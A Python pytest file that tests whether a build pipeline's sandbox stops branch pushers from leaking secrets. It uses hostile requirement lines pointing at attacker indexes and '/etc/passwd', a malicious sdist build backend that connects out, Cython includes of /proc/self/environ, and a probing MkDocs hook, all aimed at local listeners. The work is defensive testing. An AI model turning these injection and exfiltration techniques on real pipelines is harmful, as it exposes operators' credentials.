"""Finding 5 of issue #13: repository code ran with the pipeline's privileges.

Each test is an attack by someone who can push a branch, on the real parts: real pip against a
real (local) package index, the real compile engine with gcc, real MkDocs with a hook. The outcome
is checked from the outside: a real listener counts connections, the secret planted in the
worker's own environment is looked for in everything the code could write out.
"""

from __future__ import annotations

import io
import shutil
import tarfile
import threading
from functools import partial
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from services.compiler.engine import ModuleCache, compile_tree
from services.compiler.tiers_bundle import requirement_files
from services.deployer.docs.build import build_docs
from services.deployer.ports import DocsFailed
from services.imager.tier_venv import PipPolicy, TierPreparationFailed, TierSpec, TierVenvCache, host_platform
from shared.config import load_config
from shared.requirement_lines import RefusedRequirement
from shared.sandbox import Sandbox, SandboxUnavailable
from tests.security.sandbox_probe import (
    METADATA,
    PIPELINE_PORTS,
    Listener,
    assert_contained,
    new_secret,
    probe_source,
    read_probe,
)

ROOT = Path(__file__).resolve().parents[2]
EXAMPLE = ROOT / "examples" / "monorepo"


@pytest.fixture
def listener():
    started = Listener()
    yield started
    started.close()


@pytest.fixture
def secret(monkeypatch) -> str:
    """A secret in this worker's own environment, as KILN_GIT_TOKEN is in a real worker's."""
    value = new_secret()
    monkeypatch.setenv("KILN_GIT_TOKEN", value)
    monkeypatch.setenv("DOCKER_HOST", "tcp://127.0.0.1:2375")
    return value


def _targets(listener: Listener) -> list[tuple[str, int]]:
    return [("127.0.0.1", port) for port in (*PIPELINE_PORTS, listener.port)] + [METADATA]


# -- pip: the requirement lines ----------------------------------------------------------------


@pytest.mark.parametrize(
    "line",
    [
        "--index-url http://127.0.0.1:{port}/simple",
        "--extra-index-url http://127.0.0.1:{port}/simple",
        "-f http://127.0.0.1:{port}/wheels",
        "evil @ http://127.0.0.1:{port}/evil-1.0.tar.gz",
        "git+http://127.0.0.1:{port}/evil.git",
        "-r /etc/passwd",
    ],
)
def test_requirement_options_and_direct_references_are_refused_before_pip_runs(tmp_path, listener, line):
    line = line.format(port=listener.port)
    tier = TierSpec("report", ("tabulate==0.9.0", line))
    with pytest.raises(TierPreparationFailed) as refused:
        TierVenvCache(tmp_path / "tiers").prepare(tier, host_platform())
    assert f"tier report line 2: {line!r} refused" in str(refused.value)
    assert "KILN_PIP_INDEX_URL" in str(refused.value)
    assert listener.connections == []  # pip never asked the attacker's index or URL


def test_the_compile_stage_refuses_the_file_naming_its_line(tmp_path):
    root = tmp_path / "repo"
    shutil.copytree(EXAMPLE / "requirements", root / "requirements")
    report = root / "requirements" / "report.txt"
    lines = report.read_text().splitlines()
    report.write_text("\n".join([*lines, "--index-url https://evil.example/simple"]) + "\n")
    # the tiers as a build sees them: the operator's package (the example's tiers name these files)
    config = load_config(EXAMPLE.parent / "operator" / "config.yaml", env={})
    with pytest.raises(RefusedRequirement) as refused:
        requirement_files(config, root)
    assert str(refused.value).startswith(f"requirements/report.txt:{len(lines) + 1}: '--index-url https://")


def _sdist_index(root: Path, listener: Listener, marker: Path) -> str:
    """A real PEP 503 index serving one package that exists only as an sdist. Its build backend
    is in the sdist itself (PEP 517 `backend-path`, no build requirements to fetch): on the first
    hook pip calls it writes a marker, connects to the listener, then fails with what the probe
    saw, so the test reads it from pip's output."""
    backend = probe_source(_targets(listener)) + (
        "import pathlib, socket\n"
        "def _attack(*args, **kwargs):\n"
        f"    try:\n        pathlib.Path({str(marker)!r}).write_text('setup ran')\n"
        "    except OSError:\n        pass\n"
        f"    raise SystemExit(kiln_probe())\n"
        "get_requires_for_build_wheel = prepare_metadata_for_build_wheel = build_wheel = _attack\n"
        "build_sdist = get_requires_for_build_sdist = _attack\n"
    )
    pyproject = '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n'
    sources = {
        "backend.py": backend,
        "pyproject.toml": pyproject,
        "PKG-INFO": "Metadata-Version: 2.1\nName: kiln-probe-sdist\nVersion: 1.0\n",
    }
    files = root / "files"
    files.mkdir(parents=True)
    with tarfile.open(files / "kiln_probe_sdist-1.0.tar.gz", "w:gz") as archive:
        for name, text in sources.items():
            data = text.encode()
            member = tarfile.TarInfo(f"kiln_probe_sdist-1.0/{name}")
            member.size = len(data)
            archive.addfile(member, io.BytesIO(data))
    page = root / "simple" / "kiln-probe-sdist" / "index.html"
    page.parent.mkdir(parents=True)
    page.write_text('<a href="../../files/kiln_probe_sdist-1.0.tar.gz">kiln_probe_sdist-1.0.tar.gz</a>\n')
    server = ThreadingHTTPServer(("127.0.0.1", 0), partial(SimpleHTTPRequestHandler, directory=str(root)))
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return f"http://127.0.0.1:{server.server_address[1]}/simple"


def test_an_sdist_only_package_is_refused_and_its_setup_code_never_runs(tmp_path, listener, secret):
    marker = tmp_path / "setup-ran"
    index = _sdist_index(tmp_path / "index", listener, marker)
    cache = TierVenvCache(tmp_path / "tiers", PipPolicy(index_url=index))
    with pytest.raises(TierPreparationFailed) as refused:
        cache.prepare(TierSpec("report", ("kiln-probe-sdist==1.0",)), host_platform())
    message = str(refused.value)
    assert "kiln-probe-sdist" in message and "KILN_PIP_ALLOW_SDISTS=true" in message
    assert not marker.exists() and listener.connections == []
    assert secret not in message


def test_an_allowed_sdist_builds_as_nobody_without_secrets_or_proc(tmp_path, listener, secret):
    """With KILN_PIP_ALLOW_SDISTS=true the build backend runs, in the sandbox: nobody, no KILN_*
    and no DOCKER_HOST, no /proc, nothing written outside pip's work dir. Known limit (docs/
    architecture.md): pip fetches from the index inside the sandbox, so it shares the network."""
    marker = tmp_path / "setup-ran"
    index = _sdist_index(tmp_path / "index", listener, marker)
    cache = TierVenvCache(tmp_path / "tiers", PipPolicy(index_url=index, allow_sdists=True))
    with pytest.raises(TierPreparationFailed) as failed:
        cache.prepare(TierSpec("report", ("kiln-probe-sdist==1.0",)), host_platform())
    seen = read_probe(str(failed.value))
    assert seen["uid"] == 65534 and not marker.exists()
    for path in [key for key in seen if key.startswith("/proc/")]:
        assert str(seen[path]).startswith("refused"), path
    assert not [name for name in seen["env"] if name.startswith("KILN_") or name == "DOCKER_HOST"]
    assert secret not in str(failed.value)
    assert listener.connections  # the known limit above: when it is closed, this flips


# -- Cython and gcc on the repository's modules -------------------------------------------------


def test_compiling_a_module_cannot_pull_host_files_into_the_build(tmp_path, secret):
    """A `.pxd` beside a module is read by Cython and its `cdef extern from` becomes a C
    #include: without the sandbox gcc compiled the worker's /proc/self/environ and any
    readable file into the module. In the sandbox neither exists."""
    outside = tmp_path / "operator-secret.h"
    outside.write_text(f'static const char *leak = "{secret}";\n')
    src = tmp_path / "repo"
    (src / "evil").mkdir(parents=True)
    (src / "evil" / "__init__.py").write_text("")
    (src / "evil" / "environ.py").write_text("def f():\n    return 1\n")
    (src / "evil" / "environ.pxd").write_text('cdef extern from "/proc/self/environ":\n    pass\n')
    (src / "evil" / "stolen.py").write_text("def g():\n    return 2\n")
    (src / "evil" / "stolen.pxd").write_text(f'cdef extern from "{outside}":\n    pass\n')
    (src / "evil" / "fine.py").write_text("def h():\n    return 3\n")

    report = compile_tree(
        src, tmp_path / "out", platforms=[host_platform()], jobs=2, cache=ModuleCache(tmp_path / "cache")
    )
    results = {m.module: m for m in report.modules}
    assert results["evil.fine"].status == "ok"  # the legitimate module beside them still compiles
    assert results["evil.environ"].status == "error"
    assert "/proc/self/environ: No such file or directory" in results["evil.environ"].error
    assert results["evil.stolen"].status == "error"
    assert f"{outside}: No such file or directory" in results["evil.stolen"].error
    for path in [*(tmp_path / "out").rglob("*"), *(tmp_path / "cache").rglob("*")]:
        if path.is_file():
            assert secret.encode() not in path.read_bytes(), path
    assert secret not in repr(report.modules)


# -- MkDocs hooks ---------------------------------------------------------------------------------


def test_a_mkdocs_hook_reaches_no_service_no_secret_and_no_deployer_environ(tmp_path, listener, secret):
    repo = tmp_path / "repo"
    (repo / "docs").mkdir(parents=True)
    (repo / "docs" / "index.md").write_text("# Docs\n")
    (repo / "hook.py").write_text(
        probe_source(_targets(listener))
        + "\ndef on_page_markdown(markdown, **kwargs):\n    return markdown + '\\n\\n' + kiln_probe()\n"
    )
    (repo / "mkdocs.yml").write_text("site_name: x\nhooks: [hook.py]\n")
    deployer_env = {"PATH": "/usr/bin:/bin", "HOME": "/root", "KILN_WIKI_API_KEY": secret}

    built = build_docs(repo, "mkdocs.yml", tmp_path / "work", timeout_s=120, env=deployer_env)

    seen = read_probe(built.pages[0].html)
    assert seen["uid"] == 65534
    assert_contained(seen, secret, listener)
    for path in (tmp_path / "work").rglob("*"):
        if path.is_file():
            assert secret.encode() not in path.read_bytes(), path


# -- no sandbox -----------------------------------------------------------------------------------


def test_without_a_sandbox_a_step_fails_naming_the_fix_unless_the_operator_opted_out(tmp_path, caplog):
    missing = Sandbox(bwrap=str(tmp_path / "no-bwrap"))
    with pytest.raises(SandboxUnavailable) as unavailable:
        missing.run(["true"])
    assert "apt-get install -y bubblewrap" in str(unavailable.value)
    assert "KILN_ALLOW_UNSANDBOXED=true" in str(unavailable.value)
    repo = tmp_path / "repo"
    (repo / "docs").mkdir(parents=True)
    (repo / "docs" / "index.md").write_text("# x\n")
    (repo / "mkdocs.yml").write_text("site_name: x\n")
    with pytest.raises(DocsFailed, match="not run: the sandbox for repository code cannot be created"):
        build_docs(repo, "mkdocs.yml", tmp_path / "w", timeout_s=60, env={}, sandbox=missing)

    opted_out = Sandbox(required=False, bwrap=str(tmp_path / "no-bwrap"))
    done = opted_out.run(["env"], env={"LC_ALL": "C"})
    assert "LC_ALL=C" in done.stdout and "KILN_" not in done.stdout
    assert "UNSANDBOXED" in caplog.text
